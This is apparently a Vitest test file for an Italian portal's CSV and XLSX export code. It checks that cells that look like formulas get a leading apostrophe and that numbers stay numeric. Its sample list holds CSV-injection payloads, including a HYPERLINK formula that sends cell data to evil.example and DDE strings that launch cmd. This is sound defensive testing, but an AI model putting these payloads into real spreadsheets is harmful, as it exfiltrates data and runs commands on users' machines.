import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { scriviXlsx } from '../../server/lib/xlsx.js';
import { cellaSicura } from '../../shared/cella-sicura.js';
import { campoCsv, fileCsv } from '../../shared/csv.js';

// Formula injection (OWASP "CSV Injection") in every file the portal writes for spreadsheets: text
// that starts like a formula is neutralised, numbers stay numbers.
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'portale-fogli-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const RISCHIOSE = [
  '=HYPERLINK("http://evil.example/?o="&B2;"Apri")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '\n=1+1', '-', '+', '-1e5', '-A1',
];
const NUMERI = ['-3', '+3', '-1,50', '-1.50', '-1.234,50', '0', '12', '1,250'];

describe('cellaSicura (the one rule)', () => {
  it.each(RISCHIOSE)('%j gets a leading apostrophe', (s) => {
    expect(cellaSicura(s)).toBe(`'${s}`);
  });
  it.each([...NUMERI, 'Vite àèì', '000100', 'a=b', ' =1+1', '2025-01-31', ''])('%j stays as it is', (s) => {
    expect(cellaSicura(s)).toBe(s);
  });
});

describe('CSV writer', () => {
  it('quotes and prefixes every risky first character, tab and line breaks included', () => {
    expect(campoCsv('=1+1')).toBe(`"'=1+1"`);
    expect(campoCsv('+1+1')).toBe(`"'+1+1"`);
    expect(campoCsv('-1+1')).toBe(`"'-1+1"`);
    expect(campoCsv('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(campoCsv('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(campoCsv('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(campoCsv('=HYPERLINK("http://evil.example/?o="&B2;"Apri")')).toBe(`"'=HYPERLINK(""http://evil.example/?o=""&B2;""Apri"")"`);
  });

  it('numbers stay numbers: JS numbers (decimal comma) and text that is entirely a number', () => {
    expect([-3, 2.5, -0.125, 0].map(campoCsv)).toEqual(['-3', '2,5', '-0,125', '0']);
    expect(NUMERI.map(campoCsv)).toEqual(NUMERI);
  });

  it('plain text as before: quoted only for a quote, a separator or a line break', () => {
    expect(campoCsv('Vite àèì')).toBe('Vite àèì');
    expect(campoCsv('Ferramenta "Rossi"; Snc')).toBe('"Ferramenta ""Rossi""; Snc"');
    expect(campoCsv('riga 1\nriga 2')).toBe('"riga 1\nriga 2"');
    expect([null, undefined, ''].map(campoCsv)).toEqual(['', '', '']);
  });

  it('a whole file: BOM, header, CRLF lines, every cell through the rule', () => {
    expect(fileCsv(['nome', 'qt'], [['=1+1', -3], ['Vite', '-1,50']])).toBe(`\uFEFFnome;qt\r\n"'=1+1";-3\r\nVite;-1,50\r\n`);
  });
});

describe('XLSX writer', () => {
  async function scrivi(righe: (string | number | null)[][]): Promise<ExcelJS.Worksheet> {
    const file = path.join(dir, `prova-${Math.random().toString(36).slice(2)}.xlsx`);
    await scriviXlsx(fs.createWriteStream(file), 'Ordini', ['codice', 'descrizione', 'quantita', 'prezzo'], righe);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    return wb.getWorksheet('Ordini')!;
  }

  it('text that starts like a formula is text with a leading apostrophe; no cell is a formula', async () => {
    const ws = await scrivi(RISCHIOSE.map((s) => ['A1', s, 1, 1]));
    expect(ws.getRow(1).values).toEqual([undefined, 'codice', 'descrizione', 'quantita', 'prezzo']);
    RISCHIOSE.forEach((s, i) => {
      const c = ws.getRow(i + 2).getCell(2);
      // XML reads a carriage return back as a line feed.
      expect([c.type, c.value]).toEqual([ExcelJS.ValueType.String, `'${s}`.replace('\r', '\n')]);
    });
    ws.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('numbers stay numbers (negative too); numeric text stays text as written; codes keep their zeros', async () => {
    const ws = await scrivi([['000100', 'Reso', -3, -1.5], ['A2', null, 0, 12.345], ['-1,50', '-3', 1, 2]]);
    const celle = [2, 3, 4].map((n) => [1, 2, 3, 4].map((k) => {
      const c = ws.getRow(n).getCell(k);
      return [c.type, c.value];
    }));
    const { Number: N, String: S, Null: V } = ExcelJS.ValueType;
    expect(celle).toEqual([
      [[S, '000100'], [S, 'Reso'], [N, -3], [N, -1.5]],
      [[S, 'A2'], [V, null], [N, 0], [N, 12.345]],
      [[S, '-1,50'], [S, '-3'], [N, 1], [N, 2]],
    ]);
  });

  it('streams rows from an async source; a number without a value is an empty cell', async () => {
    async function* righe() {
      for (let i = 1; i <= 3; i++) yield [`P${i}`, `=${i}`, i, Number.NaN];
    }
    const file = path.join(dir, 'async.xlsx');
    await scriviXlsx(fs.createWriteStream(file), 'Listino', ['codice', 'descrizione', 'quantita', 'prezzo'], righe());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.getWorksheet('Listino')!;
    expect(ws.rowCount).toBe(4);
    expect(ws.getRow(4).values).toEqual([undefined, 'P3', "'=3", 3]);
  });
});
